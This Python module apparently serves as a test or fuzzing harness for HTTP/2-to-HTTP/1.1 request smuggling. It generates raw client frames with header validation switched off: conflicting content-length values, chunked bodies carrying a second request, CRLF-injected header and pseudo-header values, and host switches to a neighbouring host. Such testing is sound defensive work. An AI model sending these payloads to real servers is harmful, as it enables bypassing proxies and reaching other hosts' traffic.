"""Requests of HTTP/2 that have no form in HTTP/1.1, or two: what a server that passes them on must refuse or mend."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.settings import SettingCodes

Fields = Sequence[tuple[bytes, bytes]]
_Filled = Callable[[bytes], bytes]
SECOND = b"GET /smuggled-CASE HTTP/1.1\r\nHost: HOST\r\n\r\n"
GET = ((b":method", b"GET"), (b":scheme", b"https"), (b":path", b"/CASE"), (b":authority", b"HOST"))
POST = ((b":method", b"POST"), *GET[1:])


@dataclass(frozen=True)
class Case:
    """A request: its fields in their order, the frames of its body, and the fields after that."""

    fields: Fields
    body: tuple[bytes, ...] = ()
    trailers: Fields = ()


def without(name: bytes, fields: Fields = GET) -> Fields:
    """Return the fields but for one."""
    return tuple(field for field in fields if field[0] != name)


def with_one(name: bytes, value: bytes) -> Fields:
    """Return the fields of a GET with another value of one that is there."""
    return tuple((key, value if key == name else old) for key, old in GET)


ENDS = b"0\r\n\r\n" + SECOND
LINES = b" HTTP/1.1\r\nHost: HOST\r\n\r\n" + SECOND
BODIES = [
    Case((*POST, (b"content-length", value)), (b"hello" + SECOND,))
    for value in (
        b"5",
        b"0",
        b"+5",
        b"-1",
        b"5, 5",
        b"0x5",
        b"5\r\n",
        b" 5",
        b"999999",
        b"18446744073709551621",
        b"",
        b"five",
    )
]
LENGTHS = [
    Case((*POST, (b"content-length", b"5"), (b"content-length", b"0")), (b"hello",)),
    Case((*POST, (b"content-length", b"5"), (b"content-length", b"5")), (b"hello",)),
    Case((*POST, (b"content-length", b"5")), ()),
    Case((*POST, (b"content-length", b"5")), (b"he", b"l", b"lo", b"")),
    Case((*POST, (b"content-length", b"5")), (b"hello",), ((b"content-length", b"0"), (b"x", b"y"))),
    Case((*GET, (b"content-length", b"5")), ()),
    Case((*GET, (b"content-length", b"5")), (b"hello",)),
    Case(POST, (ENDS,)),
]
CODINGS = [
    Case((*POST, (name, value), *more), (ENDS,))
    for name, value in (
        (b"transfer-encoding", b"chunked"),
        (b"transfer-encoding", b"identity"),
        (b"transfer-encoding", b" chunked"),
        (b"Transfer-Encoding", b"chunked"),
        (b"transfer-encoding ", b"chunked"),
        (b"transfer_encoding", b"chunked"),
        (b"x", b"y\r\ntransfer-encoding: chunked"),
        (b"x", b"y\ntransfer-encoding: chunked"),
        (b"x", b"y\rtransfer-encoding: chunked"),
        (b"x\r\ntransfer-encoding", b"chunked"),
        (b"transfer-encoding: chunked\r\nx", b"y"),
        (b"connection", b"transfer-encoding"),
        (b"te", b"chunked"),
    )
    for more in ((), ((b"content-length", b"%d" % len(ENDS.replace(b"CASE", b"case-0000"))),))
]
FIELDS = [
    Case((*GET, field))
    for field in (
        (b"host", b"OTHER"),
        (b"host", b"HOST"),
        (b"x", b"y\r\nhost: OTHER"),
        (b"x", b"y\r\n\r\n" + SECOND),
        (b"x", b"y\n\n" + SECOND.replace(b"\r", b"")),
        (b"x", b"y\x00z"),
        (b"x", b"y\rz"),
        (b"x", b" y "),
        (b"x", b"\ty"),
        (b"", b"y"),
        (b"x y", b"z"),
        (b"x:y", b"z"),
        (b"x\x00", b"z"),
        (b"X-Upper", b"z"),
        (b"x\xff", b"z"),
        (b"x-real-ip", b"203.0.113.9"),
        (b"x_real_ip", b"203.0.113.9"),
        (b"x-forwarded-proto\r\nx", b"http"),
        (b"connection", b"close, x-real-ip, host"),
        (b"connection", b"keep-alive"),
        (b"proxy-connection", b"keep-alive"),
        (b"keep-alive", b"timeout=99"),
        (b"upgrade", b"websocket"),
        (b"upgrade", b"h2c"),
        (b"expect", b"100-continue"),
        (b"cookie", b"a=b\r\nx: y"),
        (b":path", b"/smuggled-CASE"),
        (b":method", b"POST"),
        (b":authority", b"OTHER"),
        (b":unknown", b"y"),
        (b":status", b"200"),
        (b":protocol", b"websocket"),
    )
]
REQUEST_LINES = [
    Case(with_one(name, value))
    for name, value in (
        (b":method", b"GET /smuggled-CASE" + LINES),
        (b":method", b"GET\r\n"),
        (b":method", b"get"),
        (b":method", b""),
        (b":method", b"TRACE"),
        (b":method", b"TRACK"),
        (b":method", b"CONNECT"),
        (b":method", b"G T"),
        (b":method", b"X" * 5_000),
        (b":path", b"/CASE" + LINES),
        (b":path", b"/CASE HTTP/1.1\r\nX: y"),
        (b":path", b"/CASE x"),
        (b":path", b" /CASE"),
        (b":path", b"/CASE\tx"),
        (b":path", b"/CASE\x00"),
        (b":path", b"/CASE\n"),
        (b":path", b"/CASE\x7f"),
        (b":path", b"/CASE#x"),
        (b":path", b"CASE"),
        (b":path", b""),
        (b":path", b"*"),
        (b":path", b"https://OTHER/CASE"),
        (b":path", b"//OTHER/CASE"),
        (b":path", b"/%20CASE%20HTTP/1.1%0d%0aX:%20y"),
        (b":scheme", b"http"),
        (b":scheme", b"https://OTHER/CASE?"),
        (b":scheme", b""),
        (b":scheme", b"https\r\nx: y"),
        (b":authority", b"HOST\r\nX: y"),
        (b":authority", b"HOST OTHER"),
        (b":authority", b"HOST:443"),
        (b":authority", b"x@HOST"),
        (b":authority", b"HOST/../OTHER"),
        (b":authority", b"HOST#OTHER"),
        (b":authority", b"HOST\x00"),
        (b":authority", b""),
    )
]
FORMS = [
    *(Case(without(name)) for name, _ in GET),
    Case((*without(b":authority"), (b"host", b"HOST"))),
    Case((*without(b":authority"), (b"host", b"HOST"), (b"host", b"OTHER"))),
    Case((*GET[:2], (b"x", b"y"), *GET[2:])),
    Case((*with_one(b":method", b"CONNECT"), (b":protocol", b"websocket"), (b"origin", b"https://HOST"))),
    Case(((b":method", b"CONNECT"), (b":authority", b"HOST:443")), (SECOND,)),
    Case((*GET, *((b"cookie", b"c%d=%d" % (number, number)) for number in range(200)))),
    Case((*GET, (b"te", b"trailers"), (b"trailer", b"content-length"))),
    Case(POST, (b"hello",), ((b"transfer-encoding", b"chunked"), (b"x", b"y"))),
    Case(POST, (b"hello",), ((b"host", b"OTHER"), (b"x-real-ip", b"203.0.113.9"))),
    Case(POST, (b"hello",), ((b":path", b"/smuggled-CASE"),)),
    Case(POST, (b"hello",), ((b"x\r\ny", b"z\r\n\r\n" + SECOND),)),
    Case(POST, tuple(b"" for _ in range(500))),
]


def requests(host: str, other: str) -> Iterator[tuple[str, str, bytes]]:
    """Yield each case's name, its description, and what the client sends.

    Args:
        host: the host name of the link that is attacked.
        other: that of its neighbour.
    """
    for number, case in enumerate((*BODIES, *LENGTHS, *CODINGS, *FIELDS, *REQUEST_LINES, *FORMS)):
        name = f"case-{number:04}"

        def filled(text: bytes, name: str = name) -> bytes:
            text = text.replace(b"CASE", name.encode())
            return text.replace(b"HOST", host.encode()).replace(b"OTHER", other.encode())

        yield name, f"{name}, {case}"[:400], _sent(case, filled)


def _sent(case: Case, filled: _Filled) -> bytes:
    quiet = H2Configuration(
        client_side=True,
        header_encoding=None,
        validate_outbound_headers=False,
        normalize_outbound_headers=False,
    )
    connection = H2Connection(quiet)
    connection.initiate_connection()
    connection.update_settings({SettingCodes.ENABLE_PUSH: 0})
    fields = [(filled(name), filled(value)) for name, value in case.fields]
    connection.send_headers(1, fields, end_stream=not case.body and not case.trailers)
    for index, part in enumerate(case.body):
        connection.send_data(1, filled(part), end_stream=index == len(case.body) - 1 and not case.trailers)
    if case.trailers:
        trailers = [(filled(name), filled(value)) for name, value in case.trailers]
        connection.send_headers(1, trailers, end_stream=True)
    return connection.data_to_send()
